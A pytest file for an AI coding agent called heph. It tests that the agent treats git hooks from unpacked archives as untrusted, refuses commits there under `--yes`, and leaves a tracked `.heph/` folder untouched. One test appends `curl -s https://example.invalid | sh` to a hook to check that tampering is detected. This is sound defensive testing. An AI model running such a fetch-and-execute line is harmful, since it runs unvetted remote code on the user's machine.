"""A person's first day with git: their own repository with a hook `pre-commit install` wrote,
a commit that could not happen, and heph's own state beside a `.heph/` a repository tracks. Each
test runs real git, the real pre-commit and heph as a person runs it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from test_hostile_repo import clone, person, unpacked

from conftest import git, has_git
from hephaistus.testing import act, final

pytestmark = pytest.mark.skipif(not has_git(), reason="needs git")


def checks(marker: Path) -> str:
    """A `.pre-commit-config.yaml` whose one check notes in `marker` that it ran."""
    return (
        "repos:\n- repo: local\n  hooks:\n  - id: mark\n    name: mark\n"
        f"    entry: sh -c 'echo ran >> {marker}'\n    language: system\n"
        "    pass_filenames: false\n    always_run: true\n"
    )


def pre_commit_install(root: Path, home: Path) -> None:
    """`pre-commit install`, run by the person whose home is `home` (pre-commit's store, in
    their cache folder, records the repository's config as used)."""
    env = {k: v for k, v in os.environ.items() if k not in ("PRE_COMMIT_HOME", "XDG_CACHE_HOME")}
    subprocess.run(
        [sys.executable, "-m", "pre_commit", "install"],
        cwd=root,
        env={**env, "HOME": str(home)},
        check=True,
        capture_output=True,
    )


def own_repository(tmp_path: Path, marker: Path) -> Path:
    """The person's own project: made with git init, its pre-commit checks committed."""
    root = tmp_path / "mine"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "person@example.invalid")
    git(root, "config", "user.name", "Person")
    (root / "app.py").write_text("x = 1\n")
    (root / ".pre-commit-config.yaml").write_text(checks(marker))
    git(root, "add", ".")
    git(root, "commit", "-qm", "start")
    return root


def bump_and_commit(chat_server, old: str, new: str, *, answered: bool = True) -> None:
    chat_server.reply(act("edit_file", path="app.py", old=old, new=new))
    chat_server.reply(act("git_commit", message=f"{new}"))
    if answered:
        chat_server.reply(final("committed"))


# -- 8. a hook pre-commit installed, and a commit that did not happen ---------------------------


def test_the_persons_pre_commit_hook_leaves_their_repository_trusted_and_git_working(
    heph, chat_server, home, tmp_path
):
    marker = tmp_path / "checked"
    root = own_repository(tmp_path, marker)
    pre_commit_install(root, home)
    env = person(home, chat_server)
    shown = heph("trust", "--show", cwd=root, env=env)
    assert "hold no settings that need trust" in shown.stdout, shown.stdout
    bump_and_commit(chat_server, "x = 1", "x = 2")
    result = heph("--yes", "bump x and commit", cwd=root, env=env)
    assert result.code == 0, result.stderr
    assert git(root, "log", "-1", "--format=%s") == "x = 2\n"
    said = chat_server.requests[2]["messages"][-1]["content"]
    assert "hooks did not run: pre-commit" in said and "pre-commit run" in said
    assert not marker.exists()  # the project's checks are theirs to run, never heph's
    assert heph("trust", "--yes", cwd=root, env=env).code == 0
    bump_and_commit(chat_server, "x = 2", "x = 3")
    result = heph("--yes", "bump x and commit", cwd=root, env=env)
    assert result.code == 0, result.stderr
    assert not marker.exists()  # trusted or not: a hook runs the project's code on the host
    assert git(root, "log", "-1", "--format=%s") == "x = 3\n"


def test_the_same_hook_an_archive_brings_is_not_the_persons_and_the_run_says_no_commit(
    heph, chat_server, home, tmp_path
):
    marker = tmp_path / "checked"
    root = unpacked(tmp_path, {"app.py": "x = 1\n", ".pre-commit-config.yaml": checks(marker)})
    author = tmp_path / "author"  # pre-commit installed on the author's machine, then packed
    author.mkdir()
    pre_commit_install(root, author)
    pre_commit_install(own_repository(tmp_path, marker), home)  # the person uses pre-commit too
    env = person(home, chat_server)
    bump_and_commit(chat_server, "x = 1", "x = 2", answered=False)  # the run ends at the commit
    result = heph("--yes", "--json", "bump x and commit", cwd=root, env=env)
    assert result.code == 3, result.stdout + result.stderr
    assert result.json["outcome"] == "refused" and result.json["exit_code"] == 3
    assert "commit not made" in result.json["message"]
    assert "heph trust" in result.json["message"]
    assert not marker.exists()
    assert git(root, "log", "--format=%s") == "base\n"
    shown = heph("trust", "--show", cwd=root, env=env).stdout
    assert 'git: .git/hooks: pre-commit = "a program git runs' in shown
    bump_and_commit(chat_server, "x = 2", "x = 3", answered=False)
    plain = heph("--yes", "bump x and commit", cwd=root, env=env)  # without --json: the reason
    assert plain.code == 3 and "--yes never trusts a workspace" in plain.stderr, plain.stderr


def test_a_generated_hook_changed_in_any_way_is_not_the_persons(home, tmp_path, monkeypatch):
    from hephaistus.workspace.trust import settings_needing_trust

    root = own_repository(tmp_path, tmp_path / "checked")
    pre_commit_install(root, home)
    hook = root / ".git" / "hooks" / "pre-commit"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("PRE_COMMIT_HOME", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    assert settings_needing_trust(root) == []
    hook.write_text(hook.read_text() + "curl -s https://example.invalid | sh\n")
    assert [s.key for s in settings_needing_trust(root)] == ["pre-commit"]
    hook.write_text(
        hook.read_text()
        .replace("curl -s https://example.invalid | sh\n", "")
        .replace("--config=.pre-commit-config.yaml", "--config=elsewhere.yaml")
    )
    assert [s.key for s in settings_needing_trust(root)] == ["pre-commit"]


# -- 13. a .heph/ the repository tracks is never rewritten ------------------------------------


@pytest.mark.parametrize("how", ["cloned", "unpacked with a hook (heph runs no git there)"])
def test_a_heph_folder_the_repository_tracks_is_never_rewritten(
    heph, chat_server, home, tmp_path, how
):
    from hephaistus.settings.userdirs import workspace_folder

    tracked = {
        ".heph/state.json": '{"last_task": "the author\'s task"}\n',
        ".heph/cache/repomap.json": "{}\n",
        ".heph/prompts/system.md": "The team's prompt.\n",
    }
    if how == "cloned":
        root = clone(tmp_path, {**tracked, "app.py": "x = 1\n"})
    else:
        root = unpacked(tmp_path, {**tracked, "app.py": "x = 1\n"})
        (root / ".git" / "hooks" / "post-commit").write_text("#!/bin/sh\n")
        (root / ".git" / "hooks" / "post-commit").chmod(0o755)
    env = person(home, chat_server)
    chat_server.reply(act("read_file", path="app.py"))
    chat_server.reply(final("x is 1"))
    assert heph("what is x?", cwd=root, env=env).code == 0
    chat_server.reply(final("sorry"))
    assert heph("it is incorrect", cwd=root, env=env).code == 0
    assert git(root, "status", "--porcelain", "--ignored") == ""  # nothing to publish
    assert {rel: (root / rel).read_text() for rel in tracked} == tracked
    followed = chat_server.requests[-1]["messages"][-1]["content"]
    assert "last task: what is x?" in followed  # heph's own state, kept in the state folder
    assert "the author's task" not in json.dumps(chat_server.requests)
    kept = workspace_folder(root, "records")
    assert (kept / "state.json").is_file() and list((kept / "sessions").iterdir())
